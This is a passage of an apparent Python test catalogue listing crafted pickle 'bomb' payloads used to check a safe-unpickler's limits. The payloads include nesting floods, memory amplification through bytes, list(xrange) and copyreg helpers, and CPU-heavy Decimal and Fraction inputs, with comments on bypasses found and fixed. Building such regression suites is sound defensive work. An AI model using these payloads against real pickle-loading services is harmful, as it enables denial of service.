    ),
    Payload(
        id="long4-negative-length-p2",
        data=b"\x80\x02\x8b\x00\x00\x00\x80.",
        technique="LONG4 with a negative length",
        expect=MalformedPickle,
        why_not_live="plain pickle refuses it too",
        bomb=True,
    ),
    Payload(
        id="long4-huge-length-p2",
        data=b"\x80\x02\x8b\xff\xff\xff\x7f.",
        technique="LONG4 length claiming 2 GiB",
        expect=TruncatedPickle,
        why_not_live="allocates before reading",
        bomb=True,
    ),
    # 100,000 decimal digits: int() from text is quadratic.
    Payload(
        id="int-100k-digits-p0",
        data=b"I" + b"1" * 100_000 + b"\n.",
        technique="protocol-0 INT with 100,000 digits",
        expect=LimitExceeded,
        why_not_live="raises ValueError (int max str digits)",
        bomb=True,
    ),
    Payload(
        id="long-100k-digits-p0",
        data=b"L" + b"1" * 100_000 + b"L\n.",
        technique="protocol-0 LONG with 100,000 digits",
        expect=LimitExceeded,
        why_not_live="raises ValueError (int max str digits)",
        bomb=True,
    ),
    # 5,000 nested MARKs against max_stack_depth=1,000.
    Payload(
        id="deep-marks-small-limit",
        data=b"(" * 5_000 + b".",
        technique="MARK nesting beyond a small max_stack_depth",
        expect=LimitExceeded,
        why_not_live=_SETTLED,
        bomb=True,
        limits=(("max_stack_depth", 1_000),),
    ),
    # 5,000 nested lists ([[[...]]]) against max_stack_depth=1,000: the stack peaks at 5,000
    # without a single MARK. Found by this suite and fixed; before the fix: the depth is only
    # sampled every 16,384 opcodes and at STOP, where the stack is back to one value, so this
    # loads.
    Payload(
        id="deep-lists-small-limit",
        data=b"]" * 5_000 + b"a" * 4_999 + b".",
        technique="list nesting beyond a small max_stack_depth, no MARKs",
        expect=LimitExceeded,
        why_not_live=_SETTLED,
        bomb=True,
        limits=(("max_stack_depth", 1_000),),
    ),
    # A million MARKs against max_stack_depth=50,000: cut off long before the end (the default
    # limit is measured by test_default_limits_bound_memory_for_marks, out of process).
    Payload(
        id="million-marks-limited",
        data=b"(" * 1_000_000 + b".",
        technique="a million MARKs cut off by max_stack_depth",
        expect=LimitExceeded,
        why_not_live=_SETTLED,
        bomb=True,
        limits=(("max_stack_depth", 50_000),),
    ),
    Payload(
        id="opcodes-small-limit",
        data=b"N0" * 5_000 + b"N.",
        technique="opcode count beyond a small max_opcodes",
        expect=LimitExceeded,
        why_not_live=_SETTLED,
        bomb=True,
        limits=(("max_opcodes", 1_000),),
    ),
    Payload(
        id="memo-small-limit-p4",
        data=b"\x80\x04N" + b"\x94" * 100 + b".",
        technique="memo entries beyond a small max_memo_entries",
        expect=LimitExceeded,
        why_not_live=_SETTLED,
        bomb=True,
        limits=(("max_memo_entries", 10),),
    ),
    Payload(
        id="container-small-limit-p0",
        data=b"(" + b"N" * 1_000 + b"t.",
        technique="one TUPLE of more items than a small max_container_items",
        expect=LimitExceeded,
        why_not_live=_SETTLED,
        bomb=True,
        limits=(("max_container_items", 100),),
    ),
    Payload(
        id="input-small-limit-p0",
        data=b"(" + b"N" * 2_000 + b"1N.",
        technique="input longer than a small max_input_bytes",
        expect=LimitExceeded,
        why_not_live=_SETTLED,
        bomb=True,
        limits=(("max_input_bytes", 1_000),),
    ),
    # FLOAT "111...1x": a float regex like [0-9]+\.?[0-9]*... backtracks quadratically on a
    # long digit run that does not match: 20,000 digits took 9 s, 200 KB would take 15 minutes.
    # (Found by this suite; linear since 82a9e2d.)
    Payload(
        id="float-regex-backtracking-p0",
        data=b"F" + b"1" * 20_000 + b"x\n.",
        technique="FLOAT text that makes the validating regex backtrack",
        expect=MalformedPickle,
        why_not_live="plain pickle rejects it at once",
        bomb=True,
        heavy=True,
    ),
    # A 1 MB module string and a 1 MB name string, memoized once, then 16,000 STACK_GLOBALs of
    # the pair from the memo: 2 MB of input, 32 GB of UTF-8 decoding when every STACK_GLOBAL
    # decodes its operands again. (Found by this suite; names are capped and decoded once per
    # constant since 82a9e2d.)
    Payload(
        id="stack-global-redecode-bomb-p4",
        data=(
            b"\x80\x04X\x40\x42\x0f\x00"
            + b"m" * 1_000_000
            + b"\x94X\x40\x42\x0f\x00"
            + b"n" * 1_000_000
            + b"\x94"
            + b"h\x00h\x01\x930" * 16_000
            + b"N."
        ),
        technique="memoized megabyte operands re-decoded by every STACK_GLOBAL",
        expect=SafePickleError,
        why_not_live="plain pickle decodes each string once",
        bomb=True,
        heavy=True,
    ),
    # 220 module and 220 name strings of 995 bytes (inside the 1,024-byte name limit), then a
    # STACK_GLOBAL of every pair: 48,400 distinct 2 KB names (inside max_globals=50,000) from 1 MB
    # of input. Found by this suite and fixed; before the fix: every name is decoded, kept,
    # decided, cached in the policy and spelled out in an error: 350-450 MB.
    Payload(
        id="cartesian-globals-bomb-p4",
        data=_cartesian_globals(220, 990),
        technique="k strings combined into k*k distinct STACK_GLOBAL names",
        expect=SafePickleError,
        why_not_live="plain pickle fails on the first import",
        bomb=True,
    ),
    # bytes(2**28) under the default policy: 28 bytes of pickle, 256 MiB allocated.
    # (Found by this suite; narrowed since 82a9e2d.)
    Payload(
        id="bytes-size-amplification-p2",
        data=b"\x80\x02c__builtin__\nbytes\nJ\x00\x00\x00\x10\x85R.",
        technique="allowed bytes(n) constructor allocating n bytes",
        expect=SafePickleError,
        why_not_live="allocates memory; nothing is written",
        bomb=True,
    ),
    # bytearray(2**28): the same, and every byte is written (zeroed).
    Payload(
        id="bytearray-size-amplification-p2",
        data=b"\x80\x02c__builtin__\nbytearray\nJ\x00\x00\x00\x10\x85R.",
        technique="allowed bytearray(n) constructor allocating n bytes",
        expect=SafePickleError,
        why_not_live="allocates memory; nothing is written",
        bomb=True,
    ),
    # list(xrange(3 * 10**6)): 3 million ints, about 120 MB, from 50 bytes.
    Payload(
        id="list-range-amplification-p2",
        data=b"\x80\x02c__builtin__\nlist\nc__builtin__\nxrange\nJ\xc0\xc6\x2d\x00\x85R\x85R.",
        technique="allowed list(range(n)) materialising n ints",
        expect=SafePickleError,
        why_not_live="allocates memory; nothing is written",
        bomb=True,
    ),
    # The same with the argument tuple built by MARK ... TUPLE. (Found by this suite: the
    # compiled fast path accepted it, skipping the range check the Python pass makes.)
    Payload(
        id="list-range-mark-tuple-p2",
        data=b"\x80\x02c__builtin__\nlist\n(c__builtin__\nxrange\nJ\xc0\xc6\x2d\x00\x85RtR.",
        technique="list(range(n)) with the arguments built by MARK and TUPLE",
        expect=SafePickleError,
        why_not_live="allocates memory; nothing is written",
        bomb=True,
    ),
    # copyreg._reconstructor(list, list, xrange(3 * 10**6)): calls list.__init__(obj, range), which
    # iterates it. Found by this suite and fixed; before the fix: the range check only looks at
    # direct arguments.
    Payload(
        id="reconstructor-range-amplification-p2",
        data=(
            b"\x80\x02ccopy_reg\n_reconstructor\nc__builtin__\nlist\nc__builtin__\nlist\n"
            b"c__builtin__\nxrange\nJ\xc0\xc6\x2d\x00\x85R\x87R."
        ),
        technique="copyreg._reconstructor whose base __init__ materialises a range",
        expect=SafePickleError,
        why_not_live="allocates memory; nothing is written",
        bomb=True,
    ),
    # copyreg.__newobj__(frozenset, xrange(3 * 10**6)): frozenset.__new__ iterates its argument.
    # Found by this suite and fixed; before the fix: as above.
    Payload(
        id="newobj-function-range-amplification-p2",
        data=(
            b"\x80\x02ccopyreg\n__newobj__\nc__builtin__\nfrozenset\nc__builtin__\nxrange\n"
            b"J\xc0\xc6\x2d\x00\x85R\x86R."
        ),
        technique="copyreg.__newobj__ whose class __new__ materialises a range",
        expect=SafePickleError,
        why_not_live="allocates memory; nothing is written",
        bomb=True,
    ),
    # list(copyreg.__newobj__(range, 3 * 10**6)): the range comes out of a copyreg helper, so it is
    # no longer recognised as one. Found by this suite and fixed; before the fix: the range check
    # follows syntax, not values.
    Payload(
        id="range-through-newobj-function-p2",
        data=(
            b"\x80\x02c__builtin__\nlist\nccopyreg\n__newobj__\nc__builtin__\nxrange\n"
            b"J\xc0\xc6\x2d\x00\x86R\x85R."
        ),
        technique="range built by copyreg.__newobj__, then materialised by list()",
        expect=SafePickleError,
        why_not_live="allocates memory; nothing is written",
        bomb=True,
    ),
    # 200 distinct globals against max_globals=100. (Found by this suite: the compiled fast
    # path did not count globals, so it accepted and the limit was never applied.)
    Payload(
        id="globals-small-limit-p0",
        data=b"".join(b"cm\nX%d\n0" % i for i in range(200)) + b"N.",
        technique="more distinct globals than a small max_globals",
        expect=LimitExceeded,
        why_not_live=_SETTLED,
        bomb=True,
        limits=(("max_globals", 100),),
    ),
    # A 2,000-byte module name, past the verifier's 1,024-byte name limit. (Found by this suite:
    # the compiled fast path had no such limit; see test_compiled_verifier_accepts_only_....)
    Payload(
        id="long-global-name-p4",
        data=b"\x80\x04X\xd0\x07\x00\x00" + b"m" * 2_000 + b"\x8c\x01X\x93.",
        technique="a global name longer than the name limit",
        expect=SafePickleError,
        why_not_live="plain pickle fails to import it",
        bomb=True,
    ),
    # decimal.Decimal(2**2000008 - 1) from a 250 KB LONG4: int to decimal conversion is quadratic.
    # Found by this suite and fixed; before the fix: about 9 s; 2.5 MB would take 15 minutes.
    Payload(
        id="decimal-from-huge-int-cpu-p2",
        data=(
            b"\x80\x02cdecimal\nDecimal\n\x8b\x91\xd0\x03\x00" + b"\xff" * 250_000 + b"\x7f\x85R."
        ),
        technique="allowed Decimal(int) converting a huge int",
        expect=SafePickleError,
        why_not_live="burns CPU; nothing is written",
        bomb=True,
        heavy=True,
    ),
    # fractions.Fraction(a, b) of two unstructured 270 KB ints: the constructor's gcd is quadratic.
    # Found by this suite and fixed; before the fix: about 10 s, still allowed by the narrowed
    # Fraction.
    Payload(
        id="fraction-gcd-cpu-p2",
        data=(
            b"\x80\x02cfractions\nFraction\n"
            + _noise_long4(270_000, 1)
            + _noise_long4(270_000, 2)
            + b"\x86R."
        ),
        technique="allowed Fraction(a, b) reducing two huge ints",
        expect=SafePickleError,
        why_not_live="burns CPU; nothing is written",
        bomb=True,
        heavy=True,
    ),
    # Fraction("1e10000000"): computes 10**10000000, seconds of CPU for 44 bytes.
    # (Found by this suite: about 8 s, and "1e1000000000" hours; narrowed since 82a9e2d.)
    Payload(
        id="fraction-exponent-cpu-p2",
        data=b"\x80\x02cfractions\nFraction\nX\x0a\x00\x00\x001e10000000\x85R.",
        technique="allowed Fraction(str) with a huge exponent",
        expect=SafePickleError,
        why_not_live="burns CPU; nothing is written",
        bomb=True,
        heavy=True,
    ),
)


def by_id(payload_id: str) -> Payload:
    """The catalogue entry with this id (a KeyError names unknown ids)."""
    for entry in CATALOGUE:
        if entry.id == payload_id:
            return entry
    raise KeyError(payload_id)
